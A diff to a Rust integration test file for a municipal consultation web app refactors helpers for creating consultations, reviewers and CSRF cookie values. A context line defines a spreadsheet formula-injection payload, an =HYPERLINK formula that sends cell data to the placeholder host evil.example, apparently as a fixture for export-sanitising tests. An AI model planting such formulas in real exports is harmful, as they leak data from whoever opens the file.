@@ -5,9 +5,9 @@
 
 use crate::accounts::{resident, PASSWORD};
 use crate::attachments::{hrefs, pdf, upload};
-use crate::consultations::{announce, consultation_fields, jst};
+use crate::consultations::{create_december, jst};
 use crate::proposals::{act, draft};
-use crate::proposals_review::{responsible, DEPARTMENT};
+use crate::proposals_review::{responsible, reviewer};
 use crate::staff::{department, staff_member};
 use crate::support::{run, visible_text, TestApp, Visitor};
 use diesel::prelude::*;
@@ -98,13 +98,7 @@ const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?q=\"&B2,\"詳細\")";
 async fn published_result(app: &TestApp, admin: &Visitor) {
     let dept = department(app, "企画課");
     app.clock.set(jst(2026, 11, 30, 12, 0, 0));
-    let fields = consultation_fields(dept, "2026-12-01", "2026-12-30");
-    let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
-    let created = admin
-        .submit("/staff/consultations/new", "/staff/consultations", &fields)
-        .await;
-    assert_eq!(created.status(), 303);
-    announce(admin, 1).await;
+    create_december(admin, dept).await;
     app.clock.set(jst(2026, 12, 2, 10, 0, 0));
     let work = "/staff/consultations/1";
     let paper = admin
@@ -252,13 +246,7 @@ fn attachments_of_a_draft_are_hidden_from_staff_until_submitted() {
     run(async {
         let app = TestApp::start().await;
         responsible(&app);
-        let reviewer = staff_member(
-            &app,
-            "reviewer@example.jp",
-            "審査 一郎",
-            &[("reviewer", Some(DEPARTMENT))],
-        )
-        .await;
+        let reviewer = reviewer(&app).await;
         let admin = staff_member(&app, "admin@example.jp", "管理者", &[("admin", None)]).await;
         let hanako = app.visitor();
         resident(&app, &hanako, "hanako@example.jp", "本庄花子").await;
@@ -296,6 +284,16 @@ fn set_cookie(response: &reqwest::Response, name: &str) -> String {
         .to_owned()
 }
 
+/// The value of the cookie `name` the response sets.
+fn cookie_value(response: &reqwest::Response, name: &str) -> String {
+    let cookie = set_cookie(response, name);
+    cookie[name.len() + 1..]
+        .split(';')
+        .next()
+        .unwrap()
+        .to_owned()
+}
+
 fn is_secure(cookie: &str) -> bool {
     cookie
         .split(';')
@@ -316,11 +314,7 @@ async fn signs_in_claiming_https(app: &TestApp) -> (bool, bool, bool) {
         .unwrap();
     let hsts = form.headers().contains_key("strict-transport-security");
     let csrf_cookie = set_cookie(&form, "kyodo_csrf");
-    let token = csrf_cookie["kyodo_csrf=".len()..]
-        .split(';')
-        .next()
-        .unwrap()
-        .to_owned();
+    let token = cookie_value(&form, "kyodo_csrf");
     let signed_in = app
         .client
         .post(app.url("/login"))
@@ -399,9 +393,8 @@ fn a_short_csrf_cookie_is_refused() {
             .send()
             .await
             .unwrap();
-        let fresh = set_cookie(&page, "kyodo_csrf");
-        let fresh = fresh["kyodo_csrf=".len()..].split(';').next().unwrap();
-        assert!(kyodo::auth::tokens::is_secret(fresh), "{fresh}");
+        let fresh = cookie_value(&page, "kyodo_csrf");
+        assert!(kyodo::auth::tokens::is_secret(&fresh), "{fresh}");
         app.stop().await;
     })
 }
